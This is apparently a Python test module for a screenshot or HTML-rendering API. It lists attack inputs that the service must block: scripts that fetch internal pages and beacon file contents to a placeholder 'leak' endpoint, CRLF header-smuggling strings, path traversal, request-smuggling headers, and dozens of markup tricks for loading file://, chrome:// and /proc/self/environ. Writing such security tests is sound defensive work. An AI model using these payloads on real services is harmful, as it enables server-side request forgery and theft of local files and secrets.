"""What the options of a request may try, past all checks of the API."""

from files.tests.attacks.addresses import schemes, urls
from files.tests.attacks.answers import WAYS as ANSWERS
from files.tests.attacks.markup import ELEMENTS, LINKS, STYLES
from files.tests.attacks.markup import WAYS as MARKUP
from files.tests.attacks.scripts import WAYS as SCRIPTS
from files.tests.attacks.ways import Way

CODE = "fetch('INSIDE').catch(() => 0), true"
BREAKING_OUT = "'); fetch('INSIDE'); ('"
SMUGGLED = "a\r\nHost: HOST:PORT\r\n\r\nGET /SLUG HTTP/1.1\r\nHost: HOST:PORT\r\n\r\n"

SCREENSHOTS = {
    "waitForExpression": {"wait_for_expression": CODE},
    "waitForExpression that goes": {"wait_for_expression": "location = 'INSIDE.html'"},
    "waitForExpression that promises": {
        "wait_for_expression": "fetch('INSIDE').then(a => a.text()).then(text => "
        "navigator.sendBeacon('PAGE/leak', text)).then(() => true, () => true)"
    },
    "waitForExpression with a frame": {
        "wait_for_expression": "document.body.innerHTML = '<iframe src=INSIDE.html>'"
    },
    "waitForExpression with a file": {
        "wait_for_expression": "fetch('file://FILES/secret.txt').then(a => a.text())"
        ".then(text => navigator.sendBeacon('PAGE/leak', text)).catch(() => true)"
    },
    "waitForExpression with chrome's own": {
        "wait_for_expression": "fetch('chrome://version/').catch(() => true)"
    },
    "waitForSelector": {"wait_for_selector": BREAKING_OUT},
    "waitForSelector with a URL": {"wait_for_selector": "body, a[href='INSIDE']"},
    "hideSelectors": {"hide_selectors": [BREAKING_OUT]},
    "hideSelectors with a style": {
        "hide_selectors": ["body { background: url(INSIDE.png) } body"]
    },
    "userAgent of more lines": {"user_agent": SMUGGLED},
    "locale of more lines": {"locale": SMUGGLED},
    "timezone of a path": {"timezone": "../../../..FILES/secret.txt"},
    "cookie of more lines": {"cookies": [{"name": "a", "value": SMUGGLED}]},
    "cookie of the inside": {
        "cookies": [{"name": "a", "value": "b", "domain": "HOST"}]
    },
    "header of more lines": {"extra_http_headers": {"X-A": SMUGGLED}},
    "header's name of more lines": {"extra_http_headers": {SMUGGLED: "a"}},
    "header Host": {"extra_http_headers": {"Host": "HOST:PORT"}},
    "header Proxy-Connection": {"extra_http_headers": {"Proxy-Connection": "HOST"}},
    "header Forwarded": {"extra_http_headers": {"X-Forwarded-Host": "HOST:PORT"}},
    "header Transfer-Encoding": {
        "extra_http_headers": {"Transfer-Encoding": "chunked", "Content-Length": "9"}
    },
    "header Upgrade": {
        "extra_http_headers": {"Connection": "Upgrade", "Upgrade": "h2c"}
    },
}
TEMPLATES = {
    **ELEMENTS,
    **{f"link {name}": f"<link {text}>" for name, text in LINKS.items()},
    **{f"style {name}": f"<style>{text}</style>a" for name, text in STYLES.items()},
    "script": "<script>fetch('INSIDE')</script>",
    "handler": "<img src=a onerror=\"fetch('INSIDE')\">",
    "file": "<iframe src=file://FILES/secret.html></iframe>",
    "picture of a file": "<img src=file://FILES/secret.png>",
    "field": "<span class=url></span><img class=title src=INSIDE.png>",
}

_LOCAL = "FILES/secret"
FILES = {
    "img": f"<img src=file://{_LOCAL}.png>",
    "img with a tab": f"<img src='fi\tle://{_LOCAL}.png'>",
    "img of a host": f"<img src=file://localhost{_LOCAL}.png>",
    "iframe": f"<iframe src=file://{_LOCAL}.html></iframe>",
    "iframe in upper case": f"<iframe src=FILE:{_LOCAL}.html></iframe>",
    "iframe of view-source": f"<iframe src=view-source:file://{_LOCAL}.html></iframe>",
    "object": f"<object data=file://{_LOCAL}.html></object>",
    "embed": f"<embed src=file://{_LOCAL}.svg>",
    "script": f"<script src=file://{_LOCAL}.js></script>",
    "module": f"<script type=module src=file://{_LOCAL}.mjs></script>",
    "stylesheet": f"<link rel=stylesheet href=file://{_LOCAL}.css>",
    "style": f"<style>body {{ background: url(file://{_LOCAL}.png) }}</style>",
    "style import": f"<style>@import 'file://{_LOCAL}.css'</style>",
    "base": "<base href=file://FILES/><img src=secret.png>",
    "svg": f"<svg><image width=90 height=60 href=file://{_LOCAL}.png /></svg>",
    "svg use": f"<svg><use href=file://{_LOCAL}.svg#a /></svg>",
    "video": f"<video poster=file://{_LOCAL}.png src=file://{_LOCAL}.png></video>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=file://{_LOCAL}.html'>",
    "prefetch": f"<link rel=prefetch href=file://{_LOCAL}.html>",
    "fetch": f"<script>fetch('file://{_LOCAL}.txt').then(a => a.text()).then(leak)"
    "</script>",
    "XHR": "<script>let x = new XMLHttpRequest(); x.onload = () => leak(x.response);"
    f"x.open('GET', 'file://{_LOCAL}.txt'); x.send()</script>",
    "worker": f"<script>new Worker('file://{_LOCAL}.js')</script>",
    "import()": f"<script>import('file://{_LOCAL}.mjs').then(m => leak(m.default))"
    "</script>",
    "location": f"<script>location = 'file://{_LOCAL}.html'</script>",
    "open": f"<script>open('file://{_LOCAL}.html')</script>",
    "link": f"<a href=file://{_LOCAL}.html>a</a>"
    "<script>document.querySelector('a').click()</script>",
    "form": f"<form action=file://{_LOCAL}.html></form>"
    "<script>document.forms[0].submit()</script>",
    "EventSource": f"<script>new EventSource('file://{_LOCAL}.events')</script>",
    "cache": f"<script>caches.open('a').then(c => c.add('file://{_LOCAL}.txt'))"
    "</script>",
    "blob": f"<iframe src=blob:file://{_LOCAL}.html></iframe>",
    "frame of srcdoc": f"<iframe srcdoc='<img src=file://{_LOCAL}.png>'></iframe>",
    "frame of data": f"<iframe src='data:text/html,<img src=file://{_LOCAL}.png>'>"
    "</iframe>",
    "input": "<input type=file><script>document.querySelector('input').value = "
    f"'{_LOCAL}.txt'</script>",
    "chrome": "<iframe src=chrome://version/></iframe><img src=chrome://favicon/a>",
    "devtools": "<iframe src=devtools://devtools/bundled/inspector.html></iframe>",
    "proc": "<iframe src=file:///proc/self/environ></iframe>",
}

FILE_WAYS = [Way(name=f"file: {name}", body=body) for name, body in FILES.items()]
PAGE_WAYS = [*MARKUP, *SCRIPTS, *ANSWERS]


def names() -> list[str]:
    """Return the names of all ways that are tried, each as often as it is there."""
    return [
        *(way.name for way in [*PAGE_WAYS, *FILE_WAYS]),
        *(name for table in (urls(), schemes()) for name in table),
        *(f"option {name}" for name in SCREENSHOTS),
        *(f"template {name}" for name in TEMPLATES),
    ]
